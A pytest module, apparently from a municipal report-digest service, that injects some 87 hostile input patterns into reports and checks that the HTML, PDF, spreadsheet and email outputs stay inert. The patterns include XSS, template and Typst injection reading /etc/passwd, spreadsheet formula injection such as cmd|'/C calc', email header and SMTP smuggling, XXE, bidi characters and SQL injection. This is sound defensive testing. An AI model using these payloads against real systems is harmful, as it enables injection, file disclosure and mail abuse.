"""Two hundred hostile texts come out inert in every form of the digest: text, HTML, PDF, spreadsheet, header."""

import re
from collections.abc import Callable
from email import message_from_bytes, policy
from html.parser import HTMLParser
from io import BytesIO
from itertools import cycle, islice

import pytest
from openpyxl import load_workbook

from classify.assessment import Place
from digest.picture import Material
from store.records import StoredReport

# {} is a token by which the text is found again.
PATTERNS = (
    "<script>alert('{}')</script>",
    "<img src=x onerror=alert('{}')>",
    "<svg><feImage href='//e.example/{}'/></svg>",
    "<svg/onload=alert('{}')>",
    "\"><b onmouseover=alert('{}')>",
    "' onclick='alert({})",
    "</style><script>{}</script>",
    "<style>@import url(//e.example/{}.css)</style>",
    "<a href='javascript:alert(1)'>{}</a>",
    "<iframe src='//e.example/{}'>",
    "<meta http-equiv=refresh content='0;url=//e.example/{}'>",
    "<base href='//e.example/{}/'>",
    "<form action='//e.example/{}'>",
    "<input autofocus onfocus=alert('{}')>",
    "<!--{}--><script>",
    "<![CDATA[{}]]>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
    "<scr<script>ipt>{}</script>",
    "<math><mtext></table><mglyph>{}",
    "<table background='//e.example/{}'>",
    "{{{{ 7*7 }}}} {}",
    "{{% include 'digest.css' %}} {}",
    "{{{{ ''.__class__.__mro__ }}}} {}",
    "{{# {} #}}",
    "${{7*7}} {}",
    "#{{7*7}} {}",
    "<%= 7*7 %> {}",
    "#let x = sys.inputs; {}",
    '#eval("1+1") {}',
    '#image("/etc/passwd") {}',
    "$ sum_(k=0)^n {} $",
    '@import "//e.example" {}',
    "= Rubrik {}",
    '#read("/etc/passwd") {}',
    "*fet* _kursiv_ `kod` {}",
    "\\u{{1F600}} {}",
    '=HYPERLINK("//e.example","{}")',
    "=1+1+{}",
    "+1+cmd|' /C calc'!A0 {}",
    "-2+3 {}",
    "@SUM(1+1) {}",
    "\t=1+1 {}",
    "\r=1+1 {}",
    "＝1+1 {}",
    "=cmd|'/C {}'!A0",
    '=WEBSERVICE("http://e.example/{}")',
    ";=1+1 {}",
    '"=1+1" {}',
    "\u202etxt.exe {}",
    "\u2066{}\u2069",
    "\u200f{}\u200e",
    "a\u200bb{}",
    "\u202d{}\u202c",
    "\ufeff{}",
    "{}\u00ad\u2060",
    "\x00{}",
    "\x1b[31m{}\x1b[0m",
    "{}\x07\x08",
    "\x85{}\u2028\u2029",
    "\x9b31m{}",
    "{}\r\nBcc: evil@e.example",
    "{}\nSubject: annat",
    "=?utf-8?q?a=0D=0ABcc:_evil=40e.example?= {}",
    "{}\r\n\r\n<html>",
    "{}\r\n--=_gräns\r\nContent-Type: text/html",
    "{}\n.\nMAIL FROM:<e@e.example>",
    "From: {}",
    "{}\r\n.\r\nQUIT",
    "https://e.example/{}",
    "http://e.example/?q={}",
    "www.e.example/{}",
    "mailto:e@e.example?subject={}",
    "tel:+4670{}",
    "data:text/html;base64,PHNjcmlwdD4={}",
    "file:///etc/{}",
    "HTTPS://E.EXAMPLE/{}",
    "ftp://e.example/{}",
    "elak.se/{}",
    "cid:trend.2026-W47@mark.example {}",
    "]]>{}<![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>{}",
    "{}" + "a" * 5000,
    "{} " + "\N{PILE OF POO}" * 300,
    "{}" + "\u0301" * 500,
    "(" * 400 + "{}",
    "'; DROP TABLE reports; -- {}",
)
NEVER = ("script", "iframe", "svg", "form", "input", "base", "object", "embed", "link", "math", "a", "button")
EVENT_ATTRIBUTE = re.compile(r"^on", re.IGNORECASE)


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data


def texts() -> list[str]:
    return [pattern.format(f"T{n:03}T") for n, pattern in enumerate(islice(cycle(PATTERNS), 210))]


@pytest.fixture
def hostile(material: Callable[..., Material], tell: Callable[..., StoredReport]) -> Material:
    """Each text as the excerpt, the site and the locality of an urgent report, and as its words of organisation."""
    told = []
    for n, text in enumerate(texts()):
        place = (Place("Kinna", "torget"), Place("Kinna", text), Place(text, "torget"))[n % 3]
        told.append(
            tell(
                n + 1,
                urgency="hog",
                place=place,
                masked_text=text,
                upcoming=True,
                category=("klotter", text)[n % 10 == 9],
            )
        )
    return material(told, notes=tuple(texts()[:40]))


def test_no_element_or_attribute_of_a_mail_reaches_the_html(hostile: Material, whole: Callable[..., object]) -> None:
    assert len(texts()) >= 200
    html = whole(hostile).rendered.html  # type: ignore[attr-defined]
    found = Elements()
    found.feed(html)
    assert not set(found.tags) & set(NEVER)
    assert not [name for name, _ in found.attributes if EVENT_ATTRIBUTE.match(name)]
    assert {name for name, _ in found.attributes} <= {
        "lang", "dir", "charset", "name", "content", "role", "class", "width", "cellpadding", "cellspacing", "border",
        "align", "style", "alt", "src", "scope", "data-css-inline",
    }  # fmt: skip
    assert all(
        value.startswith("cid:") and value.endswith("@mark.example")
        for name, value in found.attributes
        if name == "src"
    )
    assert "e.example" not in "".join(value for name, value in found.attributes if name != "alt")
    assert "49" not in re.findall(r"(?<=\s)49(?=\s)", found.text)


@pytest.mark.parametrize("form", ["text", "html"])
def test_no_link_bidi_or_control_character_is_shown(hostile: Material, whole: Callable[..., object], form: str) -> None:
    shown = getattr(whole(hostile).rendered, form)  # type: ignore[attr-defined]
    assert not re.search(r"(?i)https?://|www\.e\.|mailto:|javascript:", shown)
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b-\u200f\ufeff\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", shown)


def test_template_and_typesetting_code_stays_words(hostile: Material, whole: Callable[..., object]) -> None:
    from pypdf import PdfReader

    made = whole(hostile)
    paper = "".join(page.extract_text() for page in PdfReader(BytesIO(made.pdf)).pages)  # type: ignore[attr-defined]
    assert "{{ 7*7 }}" in made.rendered.text  # type: ignore[attr-defined]
    assert "{{ 7*7 }}" in paper
    assert "#image(" in paper
    assert "root:" not in paper


def test_no_cell_of_the_spreadsheet_is_a_formula_or_a_link(hostile: Material, whole: Callable[..., object]) -> None:
    book = load_workbook(BytesIO(whole(hostile).xlsx))  # type: ignore[attr-defined]
    (sheet,) = book.worksheets
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) > 2000
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    assert not [cell for cell in cells if cell.hyperlink]
    risky = [cell for cell in cells if isinstance(cell.value, str) and cell.value[:1] in "=+-@＝" and cell.row > 1]
    assert risky
    assert all(cell.quotePrefix for cell in risky)


def test_the_header_of_the_mail_is_ours_alone(hostile: Material, whole: Callable[..., object]) -> None:
    raw = whole(hostile).mail  # type: ignore[attr-defined]
    head = raw.split(b"\r\n\r\n", 1)[0]
    mail = message_from_bytes(raw, policy=policy.default)
    assert b"evil" not in head.lower()
    assert mail["Subject"] == "Lägesbild"
    assert mail["Bcc"] is None
    assert [part.get_content_type() for part in mail.iter_attachments()] == [
        "application/pdf",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ]
